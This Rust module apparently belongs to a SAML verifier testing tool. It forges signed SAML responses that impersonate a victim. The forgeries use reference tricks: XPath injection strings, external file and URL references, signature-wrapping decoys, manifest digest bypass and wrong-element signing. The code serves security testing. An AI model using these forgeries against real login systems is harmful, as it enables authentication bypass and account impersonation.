//! What the signature refers to: SAML has one reference, to the ID of the element around the signature (saml-core 5.4.2).

use openssl::hash::MessageDigest;
use saml_model::{Response, names};

use super::super::forge::{Digested, Forge, digest, transform};
use super::super::impostor::{id, say_it_of_the_victim};
use super::super::tree::{Tree, escaped};
use super::super::value::assertion;
use super::super::{Action, FaultError, Inputs, Parameters};
use super::{canary, choice};

pub(in super::super) const ACTIONS: &[(&str, Action)] = &[
    ("sig-manifest", Action::Value(say_it_of_the_victim)),
    ("sig-manifest", Action::Forge(manifest)),
    (
        "sig-ref-dangling-empty-digest",
        Action::Value(say_it_of_the_victim),
    ),
    ("sig-ref-dangling-empty-digest", Action::Forge(dangling)),
    ("sig-ref-empty-uri", Action::Forge(empty_uri)),
    ("sig-ref-external", Action::Value(say_it_of_the_victim)),
    ("sig-ref-external", Action::Forge(external)),
    ("sig-ref-injection", Action::Forge(injection)),
    ("sig-ref-no-uri", Action::Forge(no_uri)),
    ("sig-ref-none", Action::Value(say_it_of_the_victim)),
    ("sig-ref-none", Action::Forge(none)),
    ("sig-ref-two", Action::Draft(decoy)),
    ("sig-ref-two", Action::Forge(two)),
    ("sig-ref-xpointer", Action::Forge(xpointer)),
    ("sig-wrong-element", Action::Value(say_the_rest_of_the_victim)),
    ("sig-wrong-element", Action::Draft(name_the_part)),
    ("sig-wrong-element", Action::Forge(wrong_element)),
];

/// What a forged reference is about where it is about nothing that is there.
const NOTHING: &str = "";

fn none(forge: &mut Forge, _: &Parameters, _: &Inputs<'_>) -> Result<(), FaultError> {
    forge.without_reference = true;
    Ok(())
}

fn empty_uri(forge: &mut Forge, _: &Parameters, _: &Inputs<'_>) -> Result<(), FaultError> {
    forge.uri = Some(Some(String::new()));
    forge.digested = Digested::Message;
    Ok(())
}

/// What is meant is left to the reader (xmldsig-core1 4.4.3.1): here the whole message.
fn no_uri(forge: &mut Forge, _: &Parameters, _: &Inputs<'_>) -> Result<(), FaultError> {
    forge.uri = Some(None);
    forge.digested = Digested::Message;
    Ok(())
}

/// A reader that finds nothing digests nothing, and finds the digest right.
fn dangling(forge: &mut Forge, _: &Parameters, inputs: &Inputs<'_>) -> Result<(), FaultError> {
    forge.uri = Some(Some(format!("#{}", id(inputs, "absent"))));
    forge.digested = Digested::Octets(NOTHING.to_owned());
    Ok(())
}

fn external(forge: &mut Forge, parameters: &Parameters, _: &Inputs<'_>) -> Result<(), FaultError> {
    let is_file = choice(parameters, "scheme", &[("http", false), ("file", true)])?;
    let address = if is_file {
        "file:///etc/hostname".to_owned()
    } else {
        canary(parameters)
    };
    forge.uri = Some(Some(address));
    forge.digested = Digested::Octets(NOTHING.to_owned());
    Ok(())
}

fn xpointer(forge: &mut Forge, parameters: &Parameters, _: &Inputs<'_>) -> Result<(), FaultError> {
    let (uri, digested) = match choice(parameters, "form", &[("id", 0), ("root", 1), ("element", 2)])? {
        0 => ("#xpointer(id('{id}'))", Digested::Target),
        1 => ("#xpointer(/)", Digested::Message),
        _ => ("#element(/1)", Digested::Message),
    };
    forge.uri = Some(Some(uri.to_owned()));
    forge.digested = digested;
    Ok(())
}

/// Put into an XPath unescaped, it selects what its author likes.
fn injection(forge: &mut Forge, parameters: &Parameters, _: &Inputs<'_>) -> Result<(), FaultError> {
    let uri = choice(
        parameters,
        "quote",
        &[
            ("single", "#x'] | //*[@ID='{id}"),
            ("double", "#x\"] | //*[@ID=\"{id}"),
            ("or", "#x' or @ID='{id}"),
        ],
    )?;
    forge.uri = Some(Some(escaped(uri)));
    Ok(())
}

/// An element that a second reference is about. It names itself as metadata does, so that verifiers find its ID.
fn decoy(message: &mut Tree, _: &Parameters, inputs: &Inputs<'_>) -> Result<(), FaultError> {
    let place = message.place("Status")?;
    message.insert(place, Tree::new("samlp:Extensions").around(decoy_element(inputs)));
    Ok(())
}

fn decoy_element(inputs: &Inputs<'_>) -> String {
    let (namespace, id) = (names::NS_METADATA, id(inputs, "decoy"));
    format!("<EntityDescriptor xmlns=\"{namespace}\" ID=\"{id}\"></EntityDescriptor>")
}

fn two(forge: &mut Forge, parameters: &Parameters, inputs: &Inputs<'_>) -> Result<(), FaultError> {
    let digest = digest(forge.digest, decoy_element(inputs).as_bytes())?;
    let reference = format!(
        "<Reference URI=\"#{}\"><Transforms>{}</Transforms><DigestMethod Algorithm=\"{}\"/><DigestValue>{digest}</DigestValue></Reference>",
        id(inputs, "decoy"),
        transform(names::C14N_EXCLUSIVE),
        forge.digest_method
    );
    let comes_first = choice(parameters, "decoy", &[("first", true), ("last", false)])?;
    let (before, after) = &mut forge.more_references;
    *(if comes_first { before } else { after }) = reference;
    Ok(())
}

/// What the manifest says of the assertion is wrong, and need not be looked at (xmldsig-core1 5.1).
fn manifest(forge: &mut Forge, _: &Parameters, _: &Inputs<'_>) -> Result<(), FaultError> {
    let wrong = digest(MessageDigest::sha256(), NOTHING.as_bytes())?;
    let manifest = format!(
        "<Manifest xmlns=\"{}\" Id=\"{{id}}-manifest\"><Reference URI=\"#{{id}}\"><DigestMethod Algorithm=\"{}\"></DigestMethod>\
         <DigestValue>{wrong}</DigestValue></Reference></Manifest>",
        names::NS_DSIG,
        names::DIGEST_SHA256
    );
    forge.uri = Some(Some("#{id}-manifest".to_owned()));
    forge.transforms = vec![transform(names::C14N_EXCLUSIVE)];
    forge.objects = format!("<Object>{manifest}</Object>");
    forge.digested = Digested::Octets(manifest);
    Ok(())
}

/// A part that is signed instead of the whole.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Part {
    Issuer,
    AttributeStatement,
    Status,
    Subject,
}

fn part(parameters: &Parameters) -> Result<Part, FaultError> {
    choice(
        parameters,
        "element",
        &[
            ("Issuer", Part::Issuer),
            ("AttributeStatement", Part::AttributeStatement),
            ("Status", Part::Status),
            ("Subject", Part::Subject),
        ],
    )
}

impl Part {
    fn path(self) -> &'static [&'static str] {
        match self {
            Self::Issuer => &["Assertion", "Issuer"],
            Self::AttributeStatement => &["Assertion", "AttributeStatement"],
            Self::Status => &["Status"],
            Self::Subject => &["Assertion", "Subject"],
        }
    }
}

/// Everything but the part that is signed.
fn say_the_rest_of_the_victim(
    response: &mut Response,
    parameters: &Parameters,
    inputs: &Inputs<'_>,
) -> Result<(), FaultError> {
    let part = part(parameters)?;
    let genuine = assertion(response)?.clone();
    say_it_of_the_victim(response, parameters, inputs)?;
    let forged = assertion(response)?;
    match part {
        Part::Subject => forged.subject = genuine.subject,
        Part::AttributeStatement => forged.attributes = genuine.attributes,
        Part::Issuer | Part::Status => {}
    }
    Ok(())
}

fn name_the_part(message: &mut Tree, parameters: &Parameters, inputs: &Inputs<'_>) -> Result<(), FaultError> {
    message
        .at_mut(part(parameters)?.path())?
        .set("ID", &id(inputs, "part"));
    Ok(())
}

fn wrong_element(forge: &mut Forge, parameters: &Parameters, inputs: &Inputs<'_>) -> Result<(), FaultError> {
    forge.uri = Some(Some(format!("#{}", id(inputs, "part"))));
    forge.digested = Digested::At(part(parameters)?.path());
    Ok(())
}
